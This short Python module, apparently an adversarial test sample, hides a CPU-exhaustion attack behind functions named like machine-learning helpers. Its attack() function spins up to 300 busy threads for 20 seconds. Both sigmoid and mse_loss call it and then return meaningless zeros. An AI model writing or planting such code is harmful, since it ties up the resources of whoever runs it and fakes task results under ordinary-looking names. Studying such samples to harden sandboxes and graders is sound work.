"""Starts 300 threads that spin, and holds them for 20 s.

aims: exhaust
"""

import threading
import time

import numpy as np


def spin(end):
    while time.monotonic() < end:
        np.linalg.norm(np.ones(1000))


def attack():
    end = time.monotonic() + 20
    threads = []
    for _ in range(300):
        try:
            threads.append(threading.Thread(target=spin, args=(end,)))
            threads[-1].start()
        except RuntimeError:
            break
    for thread in threads:
        if thread.ident is not None:
            thread.join(max(0.0, end - time.monotonic()))


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
